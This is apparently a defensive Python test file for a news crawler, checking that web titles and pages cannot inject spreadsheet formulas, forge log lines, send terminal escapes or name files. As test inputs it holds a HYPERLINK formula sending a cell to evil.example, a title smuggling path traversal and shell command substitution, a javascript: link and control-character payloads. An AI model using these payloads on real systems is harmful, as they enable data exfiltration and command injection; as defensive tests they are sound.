"""What the web says steers no terminal, writes no line of the log, runs in no spreadsheet and names no file."""

from __future__ import annotations

import csv
import json
import re
from dataclasses import replace
from typing import TYPE_CHECKING

from tests.internet import GoogleNews, Publisher, xml
from tests.internet.pages import article

if TYPE_CHECKING:
    from tests.crawls import Project
    from tests.internet import Internet, Story

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Read more about the storm")'
CLEARS_SCREEN, TURNED_ROUND = "\x9b2J", "\u202e"  # what XML allows of it
FORGED = "2026-01-01 00:00:00 [newscrawl.desk] ERROR: forged"
STEERS = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
RECORD = re.compile(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d \[[\w.]+\] [A-Z]+: ")
PIPELINE = f"""
class Stumbles:
    def process_item(self, item):
        raise ValueError(item.title + chr(10) + {FORGED!r} + chr(27) + "[2J")
"""


def a_story(paper: Publisher, title: str) -> Story:
    story = replace(paper.story(1), title=title)
    paper.instead(1, article(story))
    return story


def test_a_title_is_no_formula_in_a_csv_file_and_itself_in_json_lines(
    project: Project, internet: Internet, google: GoogleNews
) -> None:
    google.add("/rss", [a_story(Publisher(internet, "paper.example.com"), FORMULA)])

    ran = project.crawl("-a", "top=1", "-O", "articles.csv", "-O", "articles.jsonl")

    with (project.folder / "articles.csv").open(newline="") as file:
        [row] = csv.DictReader(file)
    [line] = (project.folder / "articles.jsonl").read_text().splitlines()
    assert row["title"] == f"'{FORMULA}", ran.errors
    assert json.loads(line)["title"] == FORMULA
    assert project.rows("SELECT title FROM articles") == [{"title": FORMULA}]


def test_a_log_has_lines_of_ours_alone(
    project: Project, internet: Internet, google: GoogleNews
) -> None:
    google.add("/rss", [a_story(Publisher(internet, "paper.example.com"), FORMULA)])
    (project.folder / "stumbling.py").write_text(PIPELINE)
    log = project.folder / "crawl.log"

    ran = project.crawl(
        *("-a", "top=1", "--logfile", str(log)),
        ITEM_PIPELINES='{"newscrawl.pipelines.extract.ExtractPipeline": 1, "stumbling.Stumbles": 2}',
        LOG_LEVEL="DEBUG",
    )

    written = log.read_text()
    assert (ran.exit_code, ran.errors) == (1, ""), written
    assert FORGED in written, "what happened is said"
    forged = [line for line in written.split("\n") if line.startswith(FORGED)]
    assert forged == []
    own = [line for line in written.split("\n") if not line.startswith("    ")]
    assert [line for line in own[:-1] if not RECORD.match(line)] == []
    assert not STEERS.search(written)


def test_no_title_of_a_feed_steers_the_terminal(
    project: Project, internet: Internet, google: GoogleNews
) -> None:
    title = f"Storm {CLEARS_SCREEN}{TURNED_ROUND} ahead"
    internet.site("news.google.com").put(
        "/rss",
        xml(
            '<rss version="2.0"><channel><title>Top</title><item>'
            f"<title>{title}</title><link>javascript:alert(1)</link></item></channel></rss>"
        ),
    )

    ran = project.crawl("-a", "top=1", LOG_LEVEL="DEBUG")

    assert "Storm \\x9b2J\\u202e ahead" in ran.errors
    assert not STEERS.search(ran.errors)


def test_no_page_steers_the_terminal_of_who_looks_at_it(
    project: Project, internet: Internet
) -> None:
    paper = Publisher(internet, "paper.example.com")
    story = paper.story(1)
    page = article(story)
    hostile = page.body.decode().replace("<p>", f"<p>{CLEARS_SCREEN}{TURNED_ROUND}")
    paper.instead(1, replace(page, body=hostile.encode()))

    shown = [
        project.run("extract", *project.options(), *how, story.url)
        for how in (
            (),
            ("--explain",),
            ("--format", "json"),
            ("--format", "json", "--explain"),
        )
    ]

    assert [ran.exit_code for ran in shown] == [0, 0, 0, 0], shown
    assert not any(STEERS.search(ran.output + ran.errors) for ran in shown)


def test_no_file_is_named_after_what_the_web_says(
    project: Project, internet: Internet, google: GoogleNews
) -> None:
    paper = Publisher(internet, "paper.example.com")
    google.add("/rss", [a_story(paper, "../../../etc/passwd;$(touch pwned)`id`")])

    ran = project.crawl("-a", "top=1", NEWSCRAWL_WARC="raw", NEWSCRAWL_REQUEST_LOG="requests.tsv")

    names = {path.name for path in project.folder.rglob("*") if path.is_file()}
    ours = re.compile(
        r"newscrawl\.db(-shm|-wal)?|requests\.tsv|newscrawl-\w+-[\w-]+-\d+-\d+\.warc\.gz"
    )
    assert ran.exit_code == 0, ran.errors
    assert [name for name in names if not ours.fullmatch(name)] == []
    assert any(name.endswith(".warc.gz") for name in names)
